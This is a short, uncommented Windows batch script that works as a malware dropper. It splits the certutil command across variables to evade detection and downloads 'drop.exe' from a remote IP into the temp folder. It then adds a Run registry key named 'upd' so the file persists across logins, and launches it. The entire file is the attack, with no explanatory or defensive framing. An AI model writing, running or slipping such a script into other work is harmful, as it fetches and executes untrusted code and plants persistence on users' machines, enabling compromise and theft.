@echo off
set a=cert
set b=util
set c=-url
set d=cache -split -f
%a%%b% %c%%d% http://203.0.113.61/drop.exe %TEMP%\drop.exe
%COMSPEC:~20,3% /c reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d %TEMP%\drop.exe /f
start "" %TEMP%\drop.exe
